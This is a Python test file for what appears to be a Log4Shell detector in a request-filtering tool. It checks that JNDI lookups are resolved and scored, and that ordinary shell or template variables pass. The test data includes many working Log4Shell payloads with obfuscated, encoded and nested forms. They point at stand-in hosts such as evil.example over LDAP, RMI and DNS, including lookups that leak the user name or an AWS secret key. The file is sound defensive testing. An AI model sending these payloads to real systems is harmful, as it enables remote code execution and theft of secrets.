"""Log4Shell: lookups evaluated like Log4j, every known obfuscation; shell/template variables pass."""

from __future__ import annotations

import pytest

from sealgate.detectors.engine import anomaly_score
from sealgate.detectors.jndi import DETECTOR, resolve_lookups
from sealgate.detectors.normalize import Value


def _score(text: str, location: str = "header.user-agent", paranoia: int = 1) -> int:
    return anomaly_score(DETECTOR.detect(Value(text), location, paranoia))


@pytest.mark.parametrize(
    ("payload", "resolved"),
    [
        ("${jndi:ldap://evil.example/a}", "jndi:ldap://evil.example/a"),
        ("${${lower:j}ndi:ldap://evil.example/a}", "jndi:ldap://evil.example/a"),
        ("${${upper:J}${upper:N}${upper:D}${upper:I}:ldap://x/a}", "JNDI:ldap://x/a"),
        ("${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x/a}", "jndi:ldap://x/a"),
        ("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}", "jndi:ldap://x/a"),
        ("${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:rmi://x/a}", "jndi:rmi://x/a"),
        ("${j${k8s:k5:-ND}i:ldap://x/a}", "jNDi:ldap://x/a"),
        ("${${lower:${lower:jndi}}:${lower:rmi}://x/a}", "jndi:rmi://x/a"),
        ("${jndi:dns://${env:USER}.evil.example}", "jndi:dns://\x01.evil.example"),
    ],
)
def test_lookups_resolve_like_log4j(payload: str, resolved: str) -> None:
    assert resolve_lookups(payload) == [resolved]
    assert _score(payload) >= 5


@pytest.mark.parametrize(
    "payload",
    [
        "%24%7Bjndi:ldap://evil.example/a%7D",
        "%2524%257Bjndi:ldap://evil.example/a%257D",
        "\\u0024{jndi:ldap://evil.example/a}",
        "&#36;{jndi:ldap://evil.example/a}",
        "Mozilla/5.0 ${jndi:ldap://1.2.3.4:1389/Exploit} Firefox",
        "${jNdI:lDaP://x/y}",
        "${jndi:${lower:l}${lower:d}a${lower:p}://x/a}",
        "${${::-${::-$}{::-j}}ndi:ldap://x}",
        "jndi:rmi://evil.example:1099/Object",
    ],
)
def test_encoded_and_nested_payloads(payload: str) -> None:
    assert _score(payload) >= 5


@pytest.mark.parametrize(
    "text",
    [
        "${HOME}/bin",
        "Hello ${user.name}, your total is $5",
        "The JNDI API is part of Java EE",
        "${1}",
        "echo ${PATH:-/usr/bin}",
        '{"a": "${b}"}',
        "${ unclosed",
        "}}}{{{${",
    ],
)
def test_variables_that_are_not_log4j_pass(text: str) -> None:
    assert _score(text) == 0


def test_plain_log4j_lookup_is_four_points_then_critical() -> None:
    (finding,) = DETECTOR.detect(Value("${env:AWS_SECRET_ACCESS_KEY}"), "query.q", 1)
    assert (finding.rule_id, finding.severity) == ("jndi-log4j-lookup", "error")
    (finding,) = DETECTOR.detect(Value("${env:AWS_SECRET_ACCESS_KEY}"), "query.q", 2)
    assert finding.severity == "critical"


def test_deep_and_unclosed_nesting_is_bounded_and_still_finds_later_payload() -> None:
    text = "${" * 50_000 + "x" + "${jndi:ldap://evil.example/a}"
    assert _score(text) >= 5
    assert resolve_lookups("${a}" * 10_000) == []
